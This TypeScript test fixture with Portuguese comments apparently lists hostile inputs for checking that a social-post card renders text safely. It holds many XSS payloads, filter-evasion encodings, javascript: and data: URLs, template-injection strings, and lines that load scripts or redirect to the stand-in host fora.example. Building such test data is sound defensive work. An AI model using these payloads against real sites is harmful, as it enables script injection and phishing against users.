/* cspell:disable */
/** O que um ataque tenta: marcar a página (`window.__x`), abrir uma caixa ou pedir algo a outro lugar. */
const OUT = 'https://fora.example';

/** Marcação que executaria se o texto virasse HTML. */
const MARKUP = [
  '<script>window.__x=1</script>',
  '<ScRiPt>window.__x=1</sCrIpT>',
  '<script src=//fora.example/x.js></script>',
  '</p></article><script>window.__x=1</script>',
  '<img src=x onerror=window.__x=1>',
  '<img src="/x-de-injecao" onerror="alert(1)">',
  '<IMG """><SCRIPT>window.__x=1</SCRIPT>">',
  '<img/src/onerror=window.__x=1>',
  '<img src=x onerror=&#119;indow.__x=1>',
  '<svg onload=window.__x=1>',
  '<svg><script>window.__x=1</script></svg>',
  '<svg><animate onbegin=window.__x=1 attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:window.__x=1"><text y=20>aqui</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<body onload=window.__x=1>',
  '<input autofocus onfocus=window.__x=1>',
  '<details open ontoggle=window.__x=1>aberto</details>',
  '<video><source onerror=window.__x=1></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=window.__x=1>anda</marquee>',
  '<a href="javascript:alert(1)">clique</a>',
  '<a href="jav&#x09;ascript:alert(1)">clique</a>',
  '<form action=//fora.example><button>enviar</button></form>',
  '<button formaction=javascript:alert(1)>x</button>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.__x=1</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src=//fora.example/x.swf>',
  '<base href=//fora.example/>',
  '<meta http-equiv=refresh content="0;url=//fora.example">',
  '<link rel=stylesheet href=//fora.example/x.css>',
  '<style>*{display:none!important}</style>',
  '<div style="position:fixed;inset:0;background:url(//fora.example/x)">cobre</div>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><script>window.__x=1</script>',
  '<title></title><script>window.__x=1</script>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>window.__x=1</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '&lt;script&gt;window.__x=1&lt;/script&gt;',
  '%3Cscript%3Ewindow.__x=1%3C/script%3E',
  '\\u003cscript\\u003ewindow.__x=1\\u003c/script\\u003e',
  '＜script＞window.__x=1＜/script＞',
  '"><svg/onload=alert(1)>',
  "';window.__x=1;//",
  '`$' + '{window.__x=1}`',
  '*/window.__x=1/*',
];

/** Endereços que não podem virar link, ou que só podem levar a onde dizem. */
const ADDRESSES = [
  'javascript:window.__x=1',
  'JaVaScRiPt:alert(1)',
  'javascript://exemplo.org/%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://exemplo.org/1',
  'https://exemplo.org/"onmouseover="window.__x=1',
  'https://exemplo.org/<script>window.__x=1</script>',
  'https://exemplo.org/`$' + '{window.__x=1}`',
  'https://banco.com.br@fora.example/entrar',
  'https://usuario:senha@fora.example/',
  'http://[::1]/x',
  'https://exemplo.org/javascript:alert(1)',
  '[clique](javascript:alert(1))',
  '![x](x-de-injecao"onerror="alert(1))',
];

/** Moldes e protótipos de quem monta página com texto. */
const TEMPLATES = [
  '{{constructor.constructor("window.__x=1")()}}',
  '$' + '{alert(1)}',
  '<%= 7*7 %>',
  '#{7*7}',
  '{"__proto__":{"x":1}}',
  '__proto__ constructor toString',
  '{"$$typeof":"react.element","type":"script"}',
  'dangerouslySetInnerHTML={{__html:1}}',
];

/** O que tenta sair do próprio cartão sem executar nada. */
const SHAPES = [
  'W'.repeat(480),
  'ﷺ'.repeat(60),
  '\u202Egro.livecod/\u202C direita para a esquerda',
  '\u2067isolado sem fim @ana_luz',
  'm\u0301\u0302\u0303\u0304\u0306\u0307\u0308\u030A\u030B\u030C'.repeat(20),
  `Z${'\u0335\u0321\u0328\u0323\u0317'.repeat(20)}algo`,
  '\u200B\u200B\uFEFFinvisível\u2060\u00AD',
  'مرحبا بالعالم @ana_luz #palco https://exemplo.org/a',
  `${'linha\n'.repeat(60)}fim`,
  '👩‍👩‍👧‍👦'.repeat(40),
  '😀'.repeat(120),
  `https://exemplo.org/${'a'.repeat(400)}`,
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '\uFF1Cimg src=x onerror=alert(1)\uFF1E',
];

/** Textos que alguém mal-intencionado publicaria, cada um em uma publicação. */
export const INJECTIONS = [...MARKUP, ...ADDRESSES, ...TEMPLATES, ...SHAPES];

/** Nome e descrição de quem os publica. */
export const HOSTILE_PERSON = {
  name: '<img src=x onerror=window.__x=1>',
  bio: `"><script>window.__x=1</script> \u202Eoib\u202C ${OUT}/"onmouseover="alert(1) javascript:alert(1)`,
};

/** Só o que cabe em um campo de até tantos grafemas, em uma linha. */
export const fitting = (max: number) =>
  INJECTIONS.filter(
    (text) => text.length <= max && !text.includes('\n') && !/[\u200B\u202E\u2067]/u.test(text),
  );
